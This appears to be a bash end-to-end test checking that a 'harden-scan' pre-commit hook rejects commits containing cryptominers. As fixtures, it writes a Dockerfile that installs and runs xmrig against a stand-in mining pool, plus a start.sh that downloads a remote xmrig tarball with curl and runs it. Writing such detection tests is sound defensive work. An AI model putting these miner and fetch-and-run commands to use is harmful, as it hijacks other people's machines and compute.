#!/usr/bin/env bash
# A real pre-commit with our hook: a commit with a miner in it is refused, one without is made.
set -euo pipefail
# shellcheck source=tests/e2e/lib.sh
. "$(dirname "$0")/lib.sh"
[ -n "$full" ] || skip "pre-commit is tried by ./dev test --full"
command -v pre-commit >/dev/null || skip "pre-commit is not here: apt-get install pre-commit"
git -C "$repository" rev-parse HEAD >/dev/null 2>&1 || skip "this is no git checkout"
# shellcheck disable=SC2119 # it needs no node, only the directory
e2e_nodes
mkdir "$work/bin" "$work/site"
ln -s "$binaries/harden" "$work/bin/harden"
export PATH=$work/bin:$PATH PRE_COMMIT_HOME=$work/cache HOME=$work GIT_CONFIG_NOSYSTEM=1
git config --global user.name tester
git config --global user.email tester@example.org
git config --global --add safe.directory '*'
expect "pre-commit finds the hook well formed" 0 pre-commit validate-manifest "$repository/.pre-commit-hooks.yaml"
cd "$work/site"
git init -q
cat >.pre-commit-config.yaml <<END
repos:
  - repo: $repository
    rev: $(git -C "$repository" rev-parse HEAD)
    hooks: [{ id: harden-scan }]
END
pre-commit install >/dev/null
printf 'FROM debian:bookworm\nCOPY app /app\nCMD ["/app"]\n' >Dockerfile
touch app
git add -A
run_captured git commit -qm "An app"
[ "$status" -eq 0 ] || fail "a good commit is refused: $output"
ok "a commit of an honest Dockerfile is made"
printf 'FROM debian:bookworm\nRUN apt-get install -y xmrig\nCMD ["xmrig", "-o", "stratum+tcp://pool.example:3333"]\n' >Dockerfile
run_captured git commit -qam "Another app"
[ "$status" -eq 1 ] || fail "a miner may be committed: $output"
ok "a commit of a miner is refused"
prints "with the finding and its place" "Dockerfile:2:" printf '%s' "$output"
git checkout -q HEAD Dockerfile
printf '#!/bin/sh\ncurl -L https://example.org/xmrig.tar.gz | tar xz && ./xmrig -o stratum+tcp://pool.example:3333\n' >start.sh
printf 'FROM debian:bookworm\nCOPY start.sh /start.sh\nCMD ["/start.sh"]\n' >Dockerfile
git add -A
run_captured git commit -qm "A script"
[ "$status" -eq 1 ] || fail "a script that mines may be committed: $output"
ok "so is one of a script that a Dockerfile copies"
